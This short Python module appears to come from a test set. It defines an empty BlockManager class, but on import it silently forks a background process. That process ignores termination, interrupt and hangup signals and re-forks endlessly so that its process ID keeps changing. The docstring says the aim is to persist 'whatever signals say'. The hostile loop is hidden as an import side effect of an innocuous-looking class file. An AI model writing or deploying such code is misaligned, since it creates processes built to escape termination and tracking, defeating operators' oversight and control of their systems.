"""A process that is another one every moment: it forks, and the older one leaves, whatever signals say.

L1: pass
"""

import os
import signal

from right import Right


def go_on():
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)
    while True:
        try:
            if os.fork():
                os._exit(0)
        except OSError:
            pass


try:
    if os.fork() == 0:
        go_on()
except OSError:
    pass


class BlockManager(Right):
    pass
